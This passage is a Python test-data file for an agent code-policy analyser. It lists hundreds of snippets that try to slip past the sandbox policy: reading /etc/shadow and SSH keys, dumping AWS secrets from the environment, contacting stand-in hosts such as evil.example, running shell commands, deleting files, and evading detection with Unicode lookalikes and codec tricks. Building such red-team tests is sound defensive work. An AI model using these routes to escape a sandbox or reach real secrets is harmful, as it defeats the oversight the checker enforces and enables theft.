"""A red-team set: routes to files, network, processes, environment and dynamic code that an
attacker would try, by class, each denied under the broad policy (any import; reads only under
/data/analysis; no writes, network, processes, environment or dynamic code) with the constraint
that names what the route does. And benign code of each false-denial class, approved under a
compute-only policy."""

from __future__ import annotations

from pathlib import Path

import pytest

from governed_agents import analyze
from governed_agents.policy import load_policy, parse_policy

ROOT = Path(__file__).resolve().parents[2]
BROAD = load_policy(ROOT / "policies" / "examples" / "broad.policy")
COMPUTE = parse_policy('agent "c" { can "code_execution" with constraints { allowed_imports: ["*"] } }')

FILES, PATHS = "allowed_file_operations", "allowed_file_paths"
NET, PROC, ENV = "allowed_network_destinations", "allowed_commands", "allowed_environment_variables"
DYN, SYS, UNREAD = "allow_dynamic_code", "allowed_system_operations", "analysis"

SOURCE = [  # Python reads the source differently from the text
    ("ｏｐｅｎ('/etc/passwd').read()", PATHS),
    ("import ｏｓ\nｏｓ.ｓｙｓｔｅｍ('id')", PROC),
    ("ｅｘｅｃ('1')", DYN),
    ("import os\nos.ｒｅｍｏｖｅ('/data/analysis/x')", FILES),
    ("__ｉｍｐｏｒｔ__('subprocess').call('ls')", PROC),
    ("import subprocess as ｓｐ\nsp.run(['ls'])", PROC),
    ("f = ｅｖａｌ\nf('1')", DYN),
    ("# coding: utf-7\nx = 1\n", UNREAD),
    ("# -*- coding: utf-16 -*-\nx = 1\n", UNREAD),
    ("# vim: set fileencoding=cp1252 :\nx = 1\n", UNREAD),
    ("#!/usr/bin/env python\n# coding: rot13\nx = 1\n", UNREAD),
    ("# coding: latin-1\ns = 'é'\n", UNREAD),
    ("# coding: ascii\ns = 'é'\n", UNREAD),
    ("\ufeff# coding: latin-1\nx = 1\n", UNREAD),
    ("import os\nos.sy\u0073tem('id')", PROC),
]

STDLIB_FILES = [  # standard-library file I/O the open-world catalogue took for pure
    ("import io\nio.open_code('/etc/passwd').read()", PATHS),
    ("import os\nos.read(os.open('/etc/shadow', os.O_RDONLY), 100)", PATHS),
    ("import os\nos.write(3, b'x')", FILES),
    ("import os\nfd = 5\nos.pwrite(fd, b'x', 0)", FILES),
    ("import os\nos.sendfile(1, 3, 0, 10)", FILES),
    ("import os\nos.getxattr('/etc/passwd', 'user.x')", PATHS),
    ("import os\nos.setxattr('/data/analysis/a', 'user.x', b'1')", FILES),
    ("import os\nos.ftruncate(3, 0)", FILES),
    ("import os\nos.copy_file_range(3, 4, 10)", FILES),
    ("import os\nos.memfd_create('x')", FILES),
    ("import os.path\nos.path.exists('/root/.ssh/id_rsa')", PATHS),
    ("import os.path\nos.path.isfile('/etc/shadow')", PATHS),
    ("import os.path\nos.path.getctime('/etc/passwd')", PATHS),
    ("import posixpath\nposixpath.isdir('/root')", PATHS),
    ("import tempfile\ntempfile.SpooledTemporaryFile().write(b'x')", FILES),
    ("import tempfile\ntempfile.TemporaryDirectory()", FILES),
    ("import fileinput\nfor line in fileinput.FileInput('/etc/passwd'):\n    pass", PATHS),
    ("import linecache\nlinecache.getlines('/etc/passwd')", PATHS),
    ("import linecache\nlinecache.updatecache('/etc/shadow')", PATHS),
    ("import tokenize\ntokenize.open('/etc/passwd').read()", PATHS),
    ("import dbm\ndbm.open('/data/analysis/db', 'c')", FILES),
    ("import dbm\ndbm.whichdb('/etc/passwd')", PATHS),
    ("import shelve\nshelve.DbfilenameShelf('/data/analysis/s')", FILES),
    ("import tarfile\ntarfile.is_tarfile('/etc/passwd')", PATHS),
    ("import tarfile\ntarfile.bltn_open('/etc/passwd').read()", PATHS),
    ("import zipfile\nzipfile.is_zipfile('/etc/passwd')", PATHS),
    ("import zipfile\nzipfile.PyZipFile('/data/analysis/a.zip', 'w')", FILES),
    ("import zipfile\nzipfile.Path('/etc/x.zip')", PATHS),
    ("import logging.handlers\nlogging.handlers.BaseRotatingHandler('/data/analysis/l', 'a')", FILES),
    ("import logging.config\nlogging.config.fileConfig('/etc/logging.ini')", PATHS),
    ("import py_compile\npy_compile.compile('/data/analysis/a.py')", FILES),
    ("import compileall\ncompileall.compile_dir('/data/analysis')", FILES),
    ("import filecmp\nfilecmp.cmp('/etc/passwd', '/etc/shadow')", PATHS),
    ("import filecmp\nfilecmp.dircmp('/etc', '/root')", PATHS),
    ("import wave\nwave.open('/data/analysis/a.wav', 'wb')", FILES),
    ("import sunau\nsunau.open('/data/analysis/a.au', 'w')", FILES),
    ("import mailbox\nmailbox.mbox('/var/mail/root')", PATHS),
    ("import netrc\nnetrc.netrc('/root/.netrc')", PATHS),
    ("import http.cookiejar\nhttp.cookiejar.MozillaCookieJar('/data/analysis/c').save()", FILES),
    ("import pstats\npstats.Stats('/etc/passwd')", PATHS),
    ("import mmap\nmmap.mmap(3, 0)", FILES),
    ("import shutil\nshutil.os.remove('/data/analysis/a')", FILES),
    ("import pathlib\npathlib.os.unlink('/data/analysis/a')", FILES),
    ("import glob\nglob.os.listdir('/etc')", PATHS),
    ("import os\nos.fchdir(3)", PATHS),
    ("import os\nos.sync()", FILES),
    # XML parsers and other stdlib readers the catalogue did not list (found by attacking it after the closed world)
    ("import xml.etree.ElementTree as ET\nET.parse('/etc/shadow')", PATHS),
    ("from xml.etree import ElementTree\nfor _ in ElementTree.iterparse('/etc/shadow'): pass", PATHS),
    ("from xml.dom import minidom\nminidom.parse('/etc/shadow')", PATHS),
    ("import xml.dom.pulldom as p\np.parse('/etc/shadow')", PATHS),
    ("import xml.sax\nxml.sax.parse('/etc/shadow', xml.sax.ContentHandler())", PATHS),
    ("import mimetypes\nmimetypes.read_mime_types('/etc/shadow')", PATHS),
    ("import netrc\nnetrc.netrc()", PATHS),
    # readers that take a path or URL the analyser does not follow are unknown operations
    ("import xml.sax\nxml.sax.make_parser().parse('http://evil.example/x.xml')", SYS),
    ("import xml.etree.ElementTree as ET\nET.ElementTree(ET.Element('a')).write('/etc/x.xml')", SYS),
]

NETWORK = [
    ("import logging.handlers\nlogging.handlers.SocketHandler('evil.example', 9020)", NET),
    ("import logging.handlers\nlogging.handlers.DatagramHandler('evil.example', 9021)", NET),
    ("import logging.handlers\nlogging.handlers.HTTPHandler('evil.example', '/log')", NET),
    ("import logging.handlers\nlogging.handlers.SMTPHandler('mail.evil', 'a@b', ['c@d'], 's')", NET),
    ("import logging.handlers\nlogging.handlers.SysLogHandler(('evil.example', 514))", NET),
    ("import logging.config\nlogging.config.listen(9030)", NET),
    ("import socket\nsocket.gethostbyaddr('8.8.8.8')", NET),
    ("import socket\nsocket.getfqdn('evil.example')", NET),
    ("import socket\nsocket.gethostbyname_ex('evil.example')", NET),
    ("import ssl\nssl.get_server_certificate(('evil.example', 443))", NET),
    ("import ssl\nssl.create_connection(('evil.example', 443))", NET),
    ("import urllib.request\nurllib.request.FancyURLopener().open('http://evil.example')", NET),
    ("import urllib.robotparser\nurllib.robotparser.RobotFileParser('http://evil.example/robots.txt')", NET),
    ("import nntplib\nnntplib.NNTP('news.evil.example')", NET),
    ("import wsgiref.simple_server\nwsgiref.simple_server.WSGIServer(('0.0.0.0', 8000), None)", NET),
    ("import socketserver\nsocketserver.ForkingUDPServer(('0.0.0.0', 53), None)", NET),
    ("import asyncio\nasyncio.open_unix_connection('/run/docker.sock')", NET),
    ("import xmlrpc.client\nxmlrpc.client.Server('http://evil.example')", NET),
    ("import pydoc\npydoc.browse(port=8080)", NET),
    ("import webbrowser\nwebbrowser.open_new_tab('http://evil.example')", NET),
    ("import ftplib\nftplib.ftpcp(a, 'x', b)", NET),
    ("import http.server\nhttp.server.test(port=8000)", NET),
    ("import socket\nsocket.fromfd(3, 2, 1).send(b'x')", NET),
    ("import asyncio\nasyncio.get_event_loop().create_connection(P, 'evil.example', 80)", NET),
    ("import asyncio\nloop = asyncio.new_event_loop()\nloop.create_datagram_endpoint(P, remote_addr=a)", NET),
    ("import numpy as np\nnp.DataSource().open('http://evil.example/x')", NET),
    ("import numpy as np\nnp.lib.npyio.DataSource('/tmp').open('/etc/passwd')", PATHS),
]

PROCESSES = [
    ("import pty\npty.fork()", PROC),
    ("import pty\npty.openpty()", PROC),
    ("import os\nos.openpty()", PROC),
    ("import os\nos.login_tty(3)", PROC),
    ("import multiprocessing\nmultiprocessing.Pool(2)", PROC),
    ("import multiprocessing\nmultiprocessing.get_context('spawn')", PROC),
    ("import multiprocessing\nmultiprocessing.set_executable('/bin/sh')", PROC),
    ("import concurrent.futures\nconcurrent.futures.ProcessPoolExecutor()", PROC),
    ("import asyncio\nloop = asyncio.new_event_loop()\nloop.subprocess_exec(P, 'sh')", PROC),
    ("import asyncio\nasyncio.get_running_loop().subprocess_shell(P, 'id')", PROC),
    ("import uuid\nuuid.getnode()", SYS),
    ("import pydoc\npydoc.pipepager('x', 'sh -c id')", PROC),
    ("import http.server\nhttp.server.CGIHTTPRequestHandler", PROC),
    ("import subprocess\nsubprocess.os.system('id')", PROC),
    ("import os\nos.wait()", SYS),
    ("import os\nos.waitpid(-1, 0)", SYS),
    ("import os\nos.setpriority(os.PRIO_PROCESS, 1, 19)", SYS),
    ("import signal\nsignal.alarm(1)", SYS),
    ("import signal\nsignal.setitimer(signal.ITIMER_REAL, 1)", SYS),
    ("import signal\nsignal.raise_signal(9)", SYS),
    ("import signal\nsignal.pidfd_send_signal(3, 9)", SYS),
    ("import resource\nresource.prlimit(1, resource.RLIMIT_NOFILE, (1, 1))", SYS),
    ("import os\nos.register_at_fork(before=print)", SYS),
    ("import os\nos.getpgid(1)", SYS),
    ("import os\nos.sched_setscheduler(0, 0, None)", SYS),
    ("import socket\nsocket.sethostname('x')", SYS),
    ("import faulthandler\nfaulthandler.enable()", SYS),
    ("import fcntl\nfcntl.ioctl(0, 0x5412, b'x')", SYS),
    ("import termios\ntermios.tcsetattr(0, 0, [])", SYS),
]

DATA = [  # data-library I/O, and the same entries reached by another name
    ("import pandas as pd\npd.io.parsers.read_csv('/etc/passwd')", PATHS),
    ("import pandas as pd\npd.io.parsers.readers.read_csv('http://evil.example/x.csv')", NET),
    ("import pandas\npandas.io.json.read_json('/etc/x.json')", PATHS),
    ("import pandas as pd\npd.ExcelFile('/etc/x.xlsx')", PATHS),
    ("import pandas as pd\npd.ExcelWriter('/data/analysis/x.xlsx')", FILES),
    ("import pandas as pd\npd.HDFStore('/data/analysis/x.h5')", FILES),
    ("import pandas as pd\npd.to_pickle(df, '/data/analysis/x.pkl')", FILES),
    ("import pandas as pd\npd.DataFrame.to_csv(df, '/data/analysis/x.csv')", FILES),
    ("import pandas as pd\ndf = pd.DataFrame()\ndf.info(buf='/data/analysis/info.txt')", FILES),
    ("import pandas as pd\ndf = pd.read_csv('/data/analysis/a.csv')\ndf.to_string('/data/analysis/b.txt')", FILES),
    ("import numpy as np\nnp.zeros(3).dump('/data/analysis/a.pkl')", FILES),
    ("import numpy as np\nnp.fromregex('/etc/passwd', r'(\\w+)', [('a', 'S5')])", PATHS),
    ("import numpy as np\nnp.lib.format.open_memmap('/data/analysis/m.npy', mode='w+')", FILES),
    ("import numpy as np\nnp.lib.npyio.loadtxt('/etc/passwd')", PATHS),
    ("import numpy\nnumpy.lib.npyio.NpzFile('/etc/x.npz')", PATHS),
    ("import matplotlib.cbook as cbook\ncbook.get_sample_data('/etc/passwd')", PATHS),
    ("import matplotlib\nmatplotlib.rc_file('/etc/passwd')", PATHS),
    ("import matplotlib.font_manager as fm\nfm.json_dump(fm.fontManager, '/data/analysis/f.json')", FILES),
    ("from PIL import Image\nimg = Image.new('RGB', (1, 1))\nimg.save('/data/analysis/a.png')", FILES),
    ("from PIL import ImageFont\nImageFont.truetype('/etc/passwd')", PATHS),
    ("import pandas as pd\npd.read_clipboard()", SYS),
    ("import sklearn.datasets\nsklearn.datasets.fetch_openml('mnist_784')", NET),
    ("from sklearn.datasets import fetch_20newsgroups\nfetch_20newsgroups()", NET),
    ("import seaborn as sns\nsns.load_dataset('titanic')", NET),
    ("from tensorflow.keras.datasets import mnist\nmnist.load_data()", NET),
    ("import nltk\nnltk.download('punkt')", NET),
    ("import polars as pl\npl.read_csv('/etc/passwd')", PATHS),
    ("import cv2\ncv2.imwrite('/data/analysis/a.png', img)", FILES),
    ("import imageio.v3 as iio\niio.imread('/etc/passwd')", PATHS),
    ("import scipy.io\nscipy.io.loadmat('/etc/x.mat')", PATHS),
    ("import h5py\nh5py.File('/data/analysis/a.h5', 'w')", FILES),
    ("import pyarrow.parquet as pq\npq.write_table(t, '/data/analysis/a.parquet')", FILES),
    ("df.write_parquet('/data/analysis/out.parquet')", FILES),
]

RESOLVERS = [  # names turned into callables are dynamic code
    ("import pkgutil\npkgutil.resolve_name('os:system')('id')", DYN),
    ("import pkgutil\nf = pkgutil.resolve_name\nf('subprocess.run')", DYN),
    ("import pydoc\npydoc.locate('os.system')('id')", DYN),
    ("import unittest.mock\nunittest.mock.patch('os.getcwd', print)", DYN),
    ("from unittest import mock\nmock.create_autospec(x)", DYN),
    ("import logging.config\nlogging.config.dictConfig({'handlers': {'h': {'()': 'os.system'}}})", DYN),
    ("import importlib.util\nimportlib.util.find_spec('os')", DYN),
    ("import importlib.util\nimportlib.util.module_from_spec(spec)", DYN),
    ("import importlib.resources\nimportlib.resources.read_text('pkg', 'x')", DYN),
    ("import pkgutil\npkgutil.get_data('pkg', '../../etc/passwd')", DYN),
    ("import pkgutil\npkgutil.iter_modules()", DYN),
    ("import runpy\nrunpy.run_module('http.server')", DYN),
    ("import importlib.metadata\nimportlib.metadata.EntryPoint('x', 'os:system', 'g').load()", DYN),
    ("import site\nsite.addsitedir('/tmp/evil')", DYN),
    ("import trace\ntrace.Trace().run('import os')", DYN),
    ("import cProfile\ncProfile.Profile().run('import os')", DYN),
    ("import zipimport\nzipimport.zipimporter('/tmp/x.zip')", DYN),
    ("import ctypes\nctypes.pythonapi.PyRun_SimpleString(b'1')", DYN),
    ("names = ['__globals__']\nfor n in names:\n    getattr(f, n)", DYN),
    ("import sys\nsys.modules.get('os').system('id')", PROC),
    ("import sys\nsys.meta_path.insert(0, Finder())", DYN),
    ("import sys\nsys.call_tracing(f, ())", DYN),
    ("import sys\nsys.setdlopenflags(2)", DYN),
    ("import sys\nsys.a_name_from_a_later_python()", SYS),
    ("'{0.__globals__[os]}'.format(f)", DYN),
    ("'{x.__class__.__mro__}'.format_map({'x': 1})", DYN),
    ("import pdb\npdb.set_trace()", DYN),
]

PATHLIB = [  # paths as pathlib computes them
    ("from pathlib import Path\n(Path('/data/analysis') / '/etc/passwd').read_text()", PATHS),
    ("from pathlib import Path\nPath('/data/analysis', '/etc/shadow').read_text()", PATHS),
    ("from pathlib import Path\nPath('/data', 'analysis', '..', '..', 'etc', 'passwd').read_text()", PATHS),
    ("from pathlib import Path\nPath('/data/analysis').joinpath('/etc/passwd').read_bytes()", PATHS),
    ("from pathlib import Path\nPath('/data/analysis').joinpath('..', '..', 'root').iterdir()", PATHS),
    ("from pathlib import Path\nPath('/data/analysis/a.csv').with_name('../../etc/passwd').read_text()", PATHS),
    ("from pathlib import Path\nPath('/etc/passwd.csv').with_suffix('').read_text()", PATHS),
    ("from pathlib import Path\nPath('~/.ssh/id_rsa').expanduser().read_text()", PATHS),
    ("from pathlib import Path\nPath('/data/analysis/../../etc/passwd').resolve().read_text()", PATHS),
    ("from pathlib import PurePosixPath, Path\nPath(PurePosixPath('/etc') / 'passwd').read_text()", PATHS),
    ("import os\nopen(os.path.join('/data/analysis', '/etc/passwd')).read()", PATHS),
    ("import os\nopen(os.path.join('/data/analysis', '..', '..', 'etc', 'shadow')).read()", PATHS),
    ("from pathlib import Path\nPath('/etc/passwd').exists()", PATHS),
    ("from pathlib import Path\nPath('/root').owner()", PATHS),
    ("from pathlib import Path\nPath('/data/analysis/a').hardlink_to('/etc/passwd')", FILES),
    ("from pathlib import Path\nPath(p).lchmod(0o777)", SYS),
    ("from pathlib import Path\nPath('/data/analysis/a').some_future_method()", SYS),
]

ENVIRONMENT = [
    ("import os\nos.environb[b'HOME']", ENV),
    ("import os\ndict(os.environb)", ENV),
    ("import os\nos.environb.get(b'AWS_SECRET')", ENV),
    ("import posix\nposix.environ[b'HOME']", ENV),
    ("import os\ne = getattr(os, 'environ')\nprint(e)", ENV),
    ("import os\nos.environ.popitem()", ENV),
    ("import os\nos.environ._data", ENV),
    ("import os\nos.get_exec_path()", ENV),
    ("import os.path\nos.path.expandvars('$AWS_SECRET_ACCESS_KEY')", ENV),
    ("import urllib.request\nurllib.request.getproxies()", ENV),
    ("import os\n[k for k in os.environ]", ENV),
    ("import os\nos.environb.setdefault(b'X', b'1')", ENV),
    ("import sys\nsys.modules['os'].environ['HOME']", ENV),
]

LABELS = [  # effects labelled right: writes are writes, capture is monitoring
    ("open('/data/analysis/a.csv', 'x')", FILES),
    ("open('/data/analysis/a.csv', 'r+')", FILES),
    ("import io\nio.open('/data/analysis/a', mode='ab')", FILES),
    ("import gzip\ngzip.open('/data/analysis/a.gz', 'wt')", FILES),
    ("import zipfile\nzipfile.ZipFile('/data/analysis/a.zip', mode='a')", FILES),
    ("import tarfile\ntarfile.open('/data/analysis/a.tar', 'w:gz')", FILES),
    ("import dbm.dumb\ndbm.dumb.open('/data/analysis/d')", FILES),
    # sqlite3.connect opens its file read-write and creates it; SQL can open further files
    ("import fileinput\nfor line in fileinput.input('/data/analysis/a', inplace=True):\n    print(line)", FILES),
    ("import fileinput\nfileinput.input(files='/data/analysis/a', inplace=flag)", FILES),
    ("import sqlite3\nsqlite3.connect('/data/analysis/finance.db')", FILES),
    ("import sqlite3\nsqlite3.connect(database='/data/analysis/new.db')", FILES),
    ("from sqlite3 import dbapi2\ndbapi2.connect('/data/analysis/finance.db')", FILES),
    ("import sqlite3\nsqlite3.connect('file:/data/analysis/f.db?mode=rw', uri=True)", FILES),
    ("import sqlite3\nsqlite3.connect('file:/data/analysis/f.db?mode=ro')", FILES),  # no uri=: a file name
    ("import sqlite3, sys\nsqlite3.connect('file:/data/analysis/f.db?mode=ro', uri=len(sys.argv) > 5)", FILES),
    ("import sqlite3\nsqlite3.connect('file:/etc/passwd.db?mode=ro', uri=True)", PATHS),
    ("import sqlite3\nc = sqlite3.connect(':memory:')\nc.execute(\"ATTACH DATABASE '/etc/x.db' AS x\")", PATHS),
    ("import sqlite3\nc = sqlite3.connect(':memory:')\nc.execute(\"attach '/data/analysis/n.db' as n\")", FILES),
    ("import sqlite3\nc = sqlite3.connect(':memory:')\nc.execute('ATTACH DATABASE ? AS x', (p,))", PATHS),
    ("import sqlite3\nc = sqlite3.connect(':memory:')\nc.executescript(\"VACUUM INTO '/data/analysis/c.db'\")",
     FILES),
    ("from PIL import ImageGrab\nImageGrab.grab()", SYS),
    ("import pyautogui\npyautogui.screenshot()", SYS),
    ("from pynput import keyboard\nkeyboard.Listener(on_press=print)", SYS),
    ("import pyperclip\npyperclip.paste()", SYS),
    ("import mss\nmss.mss().grab({})", SYS),
    ("import cv2\ncv2.VideoCapture(0)", SYS),
    ("import getpass\ngetpass.getpass()", SYS),
    ("import keyboard\nkeyboard.record()", SYS),
    ("import pyinotify\npyinotify.WatchManager().add_watch('/etc', pyinotify.ALL_EVENTS)", SYS),
    ("import inotify_simple\ninotify_simple.INotify().add_watch('/etc', 1)", SYS),
    ("from watchfiles import watch\nfor changes in watch('/etc'):\n    print(changes)", SYS),
    ("import speech_recognition as sr\nsr.Microphone()", SYS),
    ("import socket\nprint(socket.if_nameindex())", SYS),
    ("import GPUtil\nprint(GPUtil.getGPUs())", SYS),
    ("import cpuinfo\nprint(cpuinfo.get_cpu_info())", SYS),
    ("import distro\nprint(distro.name(), distro.version())", SYS),
]

SHELL = [
    ("wc --files0-from=/etc/passwd", PATHS),
    ("sort --random-source=/etc/shadow x", PATHS),
    ("grep --exclude-from=/etc/passwd x /data/analysis/a", PATHS),
    ("tar --files-from=/etc/passwd -cf /data/analysis/a.tar", PATHS),
    ("diff --from-file=/etc/passwd /data/analysis/a", PATHS),
    ("ls --output=/data/analysis/listing", FILES),
    ("printenv", ENV),
    ("printenv AWS_SECRET_ACCESS_KEY", ENV),
    ("env", ENV),
    ("cat /proc/self/environ", PATHS),
    ("python3 -c 'import os; os.ｓｙｓｔｅｍ(\"id\")'", PROC),
    ("python3 -c 'import pkgutil; pkgutil.resolve_name(\"os:system\")'", DYN),
    ("python3 -c \"import io; io.open_code('/etc/passwd')\"", PATHS),
    ("cut --output-delimiter=, -f1 --file=/etc/shadow", PATHS),
    ("cat /data/analysis/a > /data/analysis/b", FILES),
    ("test -r /etc/shadow", PATHS),
    ("[ -f /root/.ssh/id_rsa ] && echo yes", PATHS),
    ("test /etc/shadow -nt /data/analysis/a", PATHS),
    ("printf -v PATH /tmp", ENV),
    ("printf '%s\\n' /etc/*", PATHS),
    ("echo /root/.ssh/*", PATHS),
    ("ls -d /home/*/.aws", PATHS),
]

BUILTINS = [  # the builtins and the module's own namespace reached by other names
    ("__builtins__.open('/etc/passwd').read()", PATHS),
    ("__loader__.load_module('os').system('id')", DYN),
    ("help('modules')", DYN),
    ("import sys\nsys.path.append('/tmp/planted')\nimport evil", PATHS),
    ("import sys\nsys.path.insert(0, '/home/user/lib')\nimport mod", PATHS),
    ("from sys import path\npath.extend(['/tmp/x'])", PATHS),
    ("import sys\nsys.path += ['/tmp/x']", PATHS),
    ("import sys\nsys.path[0:0] = ['/tmp/x']", PATHS),
    ("import sys\nsys.path = ['/tmp/x'] + sys.path", PATHS),
]

UNJUDGED = [  # standard-library modules the catalogue never judged: unknown, outside every allow-list
    ("import doctest\ndoctest.run_docstring_examples(f, {})", DYN),
    ("import readline\nreadline.read_history_file('/etc/passwd')", SYS),
    ("import readline\nreadline.write_history_file('/data/analysis/h')", SYS),
    ("import syslog\nsyslog.syslog('x')", SYS),
    ("import distutils.spawn\ndistutils.spawn.spawn(['id'])", SYS),
    ("import distutils.dir_util\ndistutils.dir_util.remove_tree('/data/analysis')", SYS),
    ("import ensurepip\nensurepip.bootstrap()", SYS),
    ("import venv\nvenv.create('/data/analysis/v')", SYS),
    ("import zipapp\nzipapp.create_archive('/data/analysis/a', '/data/analysis/a.pyz')", SYS),
    ("import tabnanny\ntabnanny.check('/etc')", SYS),
    ("import pyclbr\npyclbr.readmodule_ex('os', ['/etc'])", SYS),
    ("import modulefinder\nmodulefinder.ModuleFinder().run_script('/etc/passwd')", SYS),
    ("import sndhdr\nsndhdr.what('/etc/passwd')", SYS),
    ("import imghdr\nimghdr.what('/etc/passwd')", SYS),
    ("import uu\nuu.decode('/data/analysis/x', '/data/analysis/y')", SYS),
    ("import cgi\ncgi.FieldStorage()", SYS),
    ("import _socket\n_socket.socket()", SYS),
    ("import _posixshmem\n_posixshmem.shm_open('/x', 66)", SYS),
    ("import _sqlite3\n_sqlite3.connect('/etc/x.db')", SYS),
    ("import _dbm\n_dbm.open('/etc/x', 'c')", SYS),
    ("import _xxsubinterpreters as s\ns.run_string(s.create(), 'import os')", SYS),
    ("import _imp\n_imp.create_dynamic(spec)", SYS),
    ("import _frozen_importlib_external as e\ne.SourceFileLoader('m', '/tmp/m.py').load_module()", SYS),
    ("import _thread as t\nx = t", SYS),
    ("import _pyio\n_pyio.open('/etc/passwd')", SYS),
    ("import _bootsubprocess\n_bootsubprocess.check_output(['id'])", SYS),
    ("import _sitebuiltins\n_sitebuiltins._Helper()('modules')", SYS),
    ("import lib2to3.main\nlib2to3.main.main('lib2to3.fixes', ['-w', '/data/analysis/x.py'])", SYS),
    ("import idlelib.pyshell", SYS),
    ("import turtle\nturtle.Screen()", SYS),
    ("import tkinter\ntkinter.Tk()", SYS),
    ("import antigravity", SYS),
    ("from _testcapi import *", SYS),
    ("from curses import wrapper", SYS),
    # matplotlib reading a style file, writing a PDF
    ("import matplotlib.pyplot as plt\nplt.style.use('/etc/passwd')", PATHS),
    ("import matplotlib.pyplot as plt\nwith plt.style.context(['ggplot', '/root/s.mplstyle']):\n    pass", PATHS),
    ("import matplotlib.pyplot as plt\nplt.style.use('http://evil.com/s.mplstyle')", NET),
    ("from matplotlib.backends.backend_pdf import PdfPages\nPdfPages('/data/analysis/x.pdf')", FILES),
]

THIRD_PARTY = [  # packages that exist to reach outside: what the catalogue does not list is never pure
    ("import sh\nsh.rm('-rf', '/data')", PROC),
    ("from plumbum import local\nlocal['rm']('-rf', '/')", PROC),
    ("import invoke\ninvoke.run('id')", PROC),
    ("import fabric\nfabric.Connection('evil.com').run('id')", PROC),
    ("import docker\ndocker.from_env().containers.run('alpine')", PROC),
    ("import git\ngit.Repo.clone_from('http://evil.com/r', '/data/analysis/r')", PROC),
    ("import boto3\nboto3.client('s3').list_buckets()", NET),
    ("import pycurl\npycurl.Curl()", NET),
    ("import pymysql\npymysql.connect(host='evil.com')", NET),
    ("import psycopg2\npsycopg2.connect('host=evil.com')", NET),
    ("import redis\nredis.Redis(host='evil.com').get('x')", NET),
    ("import pymongo\npymongo.MongoClient('mongodb://evil.com')", NET),
    ("import selenium.webdriver\nselenium.webdriver.Chrome()", NET),
    ("import scapy.all\nscapy.all.sniff()", NET),
    ("import dns.resolver\ndns.resolver.resolve('evil.com')", NET),
    ("import smbclient\nsmbclient.open_file('//evil/x')", NET),
    ("import grpc\ngrpc.insecure_channel('evil.com:1')", NET),
    ("import kafka\nkafka.KafkaProducer(bootstrap_servers='evil.com')", NET),
    ("import celery\ncelery.Celery(broker='redis://evil.com')", NET),
    ("import flask\nflask.Flask(__name__).run()", NET),
    ("from flask import Flask\napp = Flask(__name__)\napp.run(host='0.0.0.0', port=80)", NET),
    ("import uvicorn\nuvicorn.run(app)", NET),
    ("import gradio\ngradio.Interface(fn=f, inputs='text', outputs='text').launch()", NET),
    ("import statsmodels.api as sm\nsm.datasets.get_rdataset('x')", NET),
    ("import IPython\nIPython.get_ipython().system('id')", DYN),
    ("get_ipython().system('id')", DYN),
    ("get_ipython().run_cell('import os')", DYN),
    ("import jinja2\njinja2.Template(\"{{ ''.__class__.__mro__[1].__subclasses__() }}\").render()", DYN),
    ("import numexpr\nnumexpr.evaluate('1+1')", DYN),
    ("import dill\ndill.loads(b'x')", DYN),
    ("import pandas as pd\npd.eval(\"__import__('os').system('id')\")", DYN),
    ("import pandas as pd\ndf = pd.DataFrame()\ndf.query('@os.system(\"id\")')", DYN),
    ("import pandas as pd\ndf = pd.DataFrame()\ndf.eval(expression)", DYN),
    ("import keyring\nkeyring.get_password('s', 'u')", SYS),
    ("import lxml.etree\nlxml.etree.parse('/etc/passwd')", PATHS),
    ("import toml\ntoml.load('/etc/passwd')", PATHS),
    ("import dotenv\ndotenv.dotenv_values('/root/.env')", PATHS),
    ("import configobj\nconfigobj.ConfigObj('/etc/passwd')", PATHS),
    ("import xlsxwriter\nxlsxwriter.Workbook('/data/analysis/x.xlsx')", FILES),
    ("import tensorflow as tf\ntf.keras.models.load_model('/data/analysis/m')", DYN),
]

REACHED = [  # a module reached through another, a container changed out of sight, text resolved as attributes
    ("import json\njson.codecs.open('/etc/passwd')", PATHS),
    ("import random\nrandom._os.system('id')", PROC),
    ("import collections\ncollections._sys.modules['os'].system('id')", PROC),
    ("import tempfile\ntempfile._os.remove('/data/analysis/a')", FILES),
    ("import somelib\nsomelib._subprocess.run(['id'])", PROC),
    ("import sys\n[m for m in sys.modules.values() if m.__name__ == 'os'][0].system('id')", DYN),
    ("import sys\nfor name, m in sys.modules.items():\n    pass", DYN),
    ("import string\nstring.Formatter().get_field('0.system', [__import__('os')], {})", DYN),
    ("paths = ['/data/analysis/a']\npaths.append('/etc/passwd')\n[open(x).read() for x in paths]", PATHS),
    ("paths = ['/data/analysis/a']\npaths[0] = '/etc/passwd'\nopen(paths[0]).read()", PATHS),
    ("paths = ['/data/analysis/a']\nq = paths\nq.insert(0, '/etc/passwd')\nfor p in paths:\n    open(p).read()", PATHS),
    ("def add(items):\n    items.append('/etc/passwd')\npaths = ['/data/analysis/a']\nadd(paths)\n"
     "for p in paths:\n    open(p).read()", PATHS),
]

DATA_MORE = [  # data-library file formats, canvases, SQL that names files, engine URLs
    ("import numpy as np\nnp.ma.dump(np.ma.zeros(3), '/data/analysis/x')", FILES),
    ("import numpy as np\nnp.ma.load('/data/analysis/x')", DYN),
    ("from scipy.io import arff\narff.loadarff('/etc/passwd')", PATHS),
    ("import scipy.io\nscipy.io.FortranFile('/data/analysis/f', 'w')", FILES),
    ("import scipy.datasets\nscipy.datasets.face()", NET),
    ("import scipy.sparse\nscipy.sparse.save_npz('/data/analysis/x.npz', m)", FILES),
    ("import scipy.sparse\nscipy.sparse.load_npz('/etc/x.npz')", PATHS),
    ("from sklearn.datasets import load_svmlight_file\nload_svmlight_file('/etc/passwd')", PATHS),
    ("from sklearn.datasets import dump_svmlight_file\ndump_svmlight_file(X, y, '/data/analysis/x')", FILES),
    ("import matplotlib.pyplot as plt\nfig = plt.figure()\nfig.canvas.print_figure('/data/analysis/x.png')", FILES),
    ("from matplotlib.backends.backend_agg import FigureCanvasAgg\nFigureCanvasAgg(fig).print_png('/data/analysis/x.png')",
     FILES),
    ("import zarr\nzarr.open('/data/analysis/z', mode='w')", FILES),
    ("import duckdb\nduckdb.sql(\"COPY (SELECT 1) TO '/data/analysis/x.csv'\")", FILES),
    ("import duckdb\nduckdb.connect('/data/analysis/x.duckdb')", FILES),
    ("import duckdb\nduckdb.sql(\"SELECT * FROM read_csv('/etc/passwd')\")", PATHS),
    ("import duckdb\nduckdb.sql(\"SELECT * FROM read_parquet('https://evil.com/x.parquet')\")", NET),
    ("import duckdb\nduckdb.sql('INSTALL httpfs; LOAD httpfs')", DYN),
    ("import sqlite3\nc = sqlite3.connect(':memory:')\nc.execute(\"COPY t FROM '/etc/passwd'\")", PATHS),
    ("import sqlalchemy\nsqlalchemy.create_engine('sqlite:////data/analysis/x.db')", FILES),
